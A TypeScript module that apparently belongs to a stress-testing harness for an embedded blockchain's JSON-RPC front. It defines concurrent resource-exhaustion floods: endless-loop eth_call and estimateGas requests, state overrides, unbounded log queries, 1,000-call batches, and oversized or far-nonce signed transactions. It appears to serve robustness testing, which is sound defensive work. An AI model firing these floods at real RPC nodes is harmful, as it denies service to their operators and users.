import type { Hex } from 'viem'
import { generatePrivateKey, privateKeyToAccount } from 'viem/accounts'
import { type Attack, crowd, type Tools } from '../attacker/attack.ts'
import { askJson } from '../attacker/http.ts'
import { noise } from '../attacker/keys.ts'

/*
 * The embedded chain's JSON-RPC front.
 */

const rpc = (tools: Tools, attacker: number, body: unknown): Promise<number> =>
  askJson(tools, tools.target.rpcUrl, attacker, body)

const call = (method: string, ...params: readonly unknown[]) => ({ jsonrpc: '2.0', id: 1, method, params })

const FROM: Hex = `0x${'0a'.repeat(20)}`
const TO: Hex = `0x${'0b'.repeat(20)}`
/** JUMPDEST PUSH1 0 JUMP: runs until its gas is gone. */
const ENDLESS: Hex = '0x5b600056'
const HUGE_GAS: Hex = '0xffffffffffff'
const PACE = { many: 32, perSecond: 1_000 }
const ADDRESSES = 16

const endlessCalls: Attack = {
  what: 'eth_call and eth_estimateGas of endless loops with huge gas, as a deployment, 32 at once',
  prepare: (tools) => () =>
    crowd(tools, PACE, (index, round) =>
      rpc(
        tools,
        index % ADDRESSES,
        round % 2 === 0
          ? call('eth_call', { from: FROM, data: ENDLESS, gas: HUGE_GAS }, 'latest')
          : call('eth_estimateGas', { from: FROM, data: ENDLESS, gas: HUGE_GAS }),
      ),
    ),
}

const overrides: Attack = {
  what: 'eth_call with state overrides: code of an endless loop, a balance of 2^128, 1,000 slots of storage',
  prepare: (tools) => {
    const slots = Object.fromEntries(
      Array.from({ length: 1_000 }, (_, index) => [
        `0x${index.toString(16).padStart(64, '0')}`,
        `0x${'11'.repeat(32)}`,
      ]),
    )
    const state = { [TO]: { code: ENDLESS, balance: `0x1${'0'.repeat(32)}`, stateDiff: slots } }
    return () =>
      crowd(tools, PACE, (index) =>
        rpc(tools, index % ADDRESSES, call('eth_call', { from: FROM, to: TO, gas: HUGE_GAS }, 'latest', state)),
      )
  },
}

const logs: Attack = {
  what: 'eth_getLogs over everything, and blocks with all their transactions, 32 at once',
  prepare: (tools) => () =>
    crowd(tools, PACE, (index, round) =>
      rpc(
        tools,
        index % ADDRESSES,
        round % 2 === 0
          ? call('eth_getLogs', { fromBlock: '0x0', toBlock: 'latest' })
          : call('eth_getBlockByNumber', 'latest', true),
      ),
    ),
}

const batches: Attack = {
  what: 'JSON-RPC batches of 100 and of 1,000 calls, 32 at once',
  prepare: (tools) => {
    const batch = (size: number) =>
      Array.from({ length: size }, (_, id) => ({
        ...call('eth_getLogs', { fromBlock: '0x0', toBlock: 'latest', address: tools.target.ledger }),
        id,
      }))
    const sizes = [batch(100), batch(1_000)]
    return () => crowd(tools, PACE, (index, round) => rpc(tools, index % ADDRESSES, sizes[round % 2]))
  },
}

const transactions: Attack = {
  what: 'signed transactions of accounts without a coin, of 120 KB and small, with far nonces, from 16 addresses',
  prepare: async (tools) => {
    const data: Hex = `0x${noise(120_000, 'transaction').toString('hex')}`
    const sign = async (index: number) => {
      const account = privateKeyToAccount(generatePrivateKey())
      return account.signTransaction({
        chainId: tools.target.chainId,
        type: 'eip1559',
        nonce: index % 3 === 0 ? 0 : 1_000_000 + index,
        to: TO,
        gas: 30_000_000n,
        maxFeePerGas: 10n ** 12n,
        maxPriorityFeePerGas: 1n,
        ...(index % 2 === 0 ? { data } : {}),
      })
    }
    const signed = await Promise.all(Array.from({ length: 200 }, (_, index) => sign(index)))
    return () =>
      crowd(tools, PACE, (index, round) =>
        rpc(
          tools,
          index % ADDRESSES,
          call('eth_sendRawTransaction', signed[(index + round * PACE.many) % signed.length]),
        ),
      )
  },
}

export const chainAttacks = {
  'endless-calls': endlessCalls,
  overrides,
  logs,
  'rpc-batches': batches,
  transactions,
}
